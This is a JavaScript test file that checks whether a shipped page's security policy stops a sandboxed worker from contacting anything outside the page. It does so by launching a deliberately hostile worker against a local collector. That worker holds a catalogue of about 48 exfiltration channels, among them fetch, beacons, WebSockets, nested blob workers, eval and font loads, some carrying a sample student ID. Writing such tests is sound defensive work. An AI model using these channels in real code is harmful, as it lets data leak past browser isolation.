// Nothing leaves the page: hostile code where the worker's code runs tries every way out that a worker has, against a
// collector on this computer. The same code in a copy without policy shows that the ways and the collector work.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, test } from 'node:test';
import { makeServer } from '../../tools/serveer.mjs';
import { launch, open, scratch, shippedPage, withWorker, withoutPolicy, writePage } from './support.mjs';

// Name -> code with `url(scheme)` for the address of this way on the collector. Each may throw, now or later.
const WAYS = {
  'fetch': `await fetch(url())`,
  'fetch-no-cors': `await fetch(url(), { mode: 'no-cors' })`,
  'fetch-post': `await fetch(url(), { method: 'POST', mode: 'no-cors', body: 'leerling 1001' })`,
  'fetch-keepalive': `await fetch(url(), { mode: 'no-cors', keepalive: true })`,
  'fetch-request': `await fetch(new Request(url(), { mode: 'no-cors' }))`,
  'fetch-priority': `await fetch(url(), { mode: 'no-cors', priority: 'high', cache: 'reload' })`,
  'fetch-referrer': `await fetch(url(), { mode: 'no-cors', referrer: '', referrerPolicy: 'unsafe-url' })`,
  'fetch-preflight': `await fetch(url(), { headers: { 'X-Leerling': '1001' } })`,
  'fetch-later': `fetchLater(url(), { activateAfter: 0 })`,
  'compile-streaming': `await WebAssembly.compileStreaming(fetch(url(), { mode: 'no-cors' }))`,
  'instantiate-streaming': `await WebAssembly.instantiateStreaming(fetch(url(), { mode: 'no-cors' }))`,
  'xhr': `const x = new XMLHttpRequest(); x.open('GET', url()); x.send()`,
  'xhr-post': `const x = new XMLHttpRequest(); x.open('POST', url()); x.send('leerling 1001')`,
  'xhr-sync': `const x = new XMLHttpRequest(); x.open('GET', url(), false); x.send()`,
  'websocket': `new WebSocket(url('ws'))`,
  'websocket-protocol': `new WebSocket(url('ws'), 'leerling1001')`,
  'websocket-stream': `await new WebSocketStream(url('ws')).opened`,
  'eventsource': `new EventSource(url())`,
  'eventsource-credentials': `new EventSource(url(), { withCredentials: true })`,
  'import-scripts': `importScripts(url())`,
  'import-scripts-two': `importScripts('data:text/javascript,1', url())`,
  'dynamic-import': `await import(url())`,
  'eval-fetch': `eval("fetch('" + url() + "', { mode: 'no-cors' })")`,
  'function-fetch': `new Function('u', "fetch(u, { mode: 'no-cors' })")(url())`,
  'timer-text': `setTimeout("fetch('" + url() + "', { mode: 'no-cors' })", 0)`,
  'nested-worker': `new Worker(url())`,
  'nested-module-worker': `new Worker(url(), { type: 'module' })`,
  'nested-blob-fetch': `nest("fetch('" + url() + "', { mode: 'no-cors' })")`,
  'nested-blob-import-scripts': `nest("importScripts('" + url() + "')")`,
  'nested-blob-websocket': `nest("new WebSocket('" + url('ws') + "')")`,
  'nested-blob-xhr': `nest("var x = new XMLHttpRequest(); x.open('GET', '" + url() + "'); x.send()")`,
  'nested-blob-module': `nest("import '" + url() + "'", { type: 'module' })`,
  'nested-twice': `nest("new Worker(URL.createObjectURL(new Blob([\\"fetch('" + url() + "', { mode: 'no-cors' })\\"])))")`,
  'nested-data': `new Worker('data:text/javascript,fetch("' + url() + '", { mode: "no-cors" })')`,
  'shared-worker': `new SharedWorker(url())`,
  'font': `await new FontFace('f', 'url(' + url() + ')').load()`,
  'canvas-font': `const f = new FontFace('g', 'url(' + url() + ')'); self.fonts.add(f);
      new OffscreenCanvas(9, 9).getContext('2d').font = '9px g'; await self.fonts.load('9px g')`,
  'canvas-filter': `const c = new OffscreenCanvas(9, 9).getContext('2d'); c.filter = 'url(' + url() + '#a)'; c.fillRect(0, 0, 9, 9)`,
  'cache-add': `await (await caches.open('a')).add(url())`,
  'beacon': `navigator.sendBeacon(url(), 'leerling 1001')`,
  'service-worker': `await navigator.serviceWorker.register(url())`,
  'web-transport': `await new WebTransport(url('https')).ready`,
  'location': `self.location = url(); self.location.href = url()`,
  'open-window': `self.open(url()); await clients.openWindow(url())`,
  'peer-connection': `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host }] }); p.createDataChannel('a');
      await p.setLocalDescription(await p.createOffer())`,
  'notification-icon': `new Notification('a', { icon: url() })`,
  'background-fetch': `await registration.backgroundFetch.fetch('a', [url()])`,
  'reporting': `await fetch('data:,', { headers: { 'Report-To': url() } })`,
};
// So many must work where nothing holds them back; the others are silent in a worker of this browser anyway.
const AT_LEAST = 25;
const QUIET_MS = 3000;

// The hostile worker: tries all ways, then says so in the only way it can.
function hostile(ways, host) {
  const nest = (code, options) => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })), options);
  const run = (name, code) => `(async () => { const url = (scheme = 'http') => scheme + '://${host}/${name}'; ${code} })().catch(() => {});`;
  return `const host = '${host}'; const nest = ${nest};
    onmessage = async () => {
      ${Object.entries(ways).map(([name, code]) => run(name, code)).join('\n      ')}
      await new Promise((done) => setTimeout(done, ${QUIET_MS}));
      self.postMessage({ t: 'teken', ops: [['make', 1, 0, 0, 'h1'], ['text', 2, 1, 0, 'alles geprobeerd']] });
      onmessage = null;
    };`;
}

// Notes every connection and what was asked on it.
async function collector() {
  const seen = { names: new Set(), connections: 0 };
  const note = (request) => seen.names.add(new URL(request.url, 'http://x').pathname.slice(1));
  const server = createServer((request, response) => {
    note(request);
    response.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' });
    response.end('1;');
  });
  server.on('upgrade', (request, socket) => {
    note(request);
    socket.destroy();
  });
  server.on('connection', () => (seen.connections += 1));
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  after(() => server.close());
  return { seen, host: `127.0.0.1:${server.address().port}` };
}

async function serve(server) {
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  after(() => server.close());
  return `http://127.0.0.1:${server.address().port}/`;
}

const browser = await launch();
const html = await shippedPage();
const folder = await scratch();

// Opens the page, lets the hostile worker do its work, and answers what the collector saw.
async function attempt(make, address) {
  const { seen, host } = await collector();
  const page = make(withWorker(html, hostile(WAYS, host)));
  const { context, page: tab, kernel } = await open(browser, await address(page), { ready: false });
  await kernel.getByRole('heading', { name: 'alles geprobeerd' }).waitFor({ timeout: 60_000 });
  const still = { frames: tab.frames().length, pages: context.pages().length };
  await context.close();
  return { ...seen, still };
}

const asFile = (name) => async (page) => writePage(folder, name, page);
const plain = (page) => serve(createServer((_, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(page)));

for (const [where, shipped, bare] of [
  ['file://', asFile('policy.html'), asFile('bare.html')],
  ['http://', (page) => serve(makeServer(page)), plain],
]) {
  test(`${where} nothing leaves the shipped page`, async () => {
    const { names, connections, still } = await attempt((page) => page, shipped);
    assert.deepEqual([...names], []);
    assert.equal(connections, 0);
    assert.deepEqual(still, { frames: 2, pages: 1 });
  });

  test(`${where} the same ways work in a copy without policy`, async (t) => {
    const { names } = await attempt(withoutPolicy, bare);
    const silent = Object.keys(WAYS).filter((name) => !names.has(name));
    t.diagnostic(`${names.size} of ${Object.keys(WAYS).length} ways arrived; silent: ${silent.join(' ')}`);
    assert.ok(names.size >= AT_LEAST, `only ${names.size}: ${[...names].join(' ')}`);
  });
}
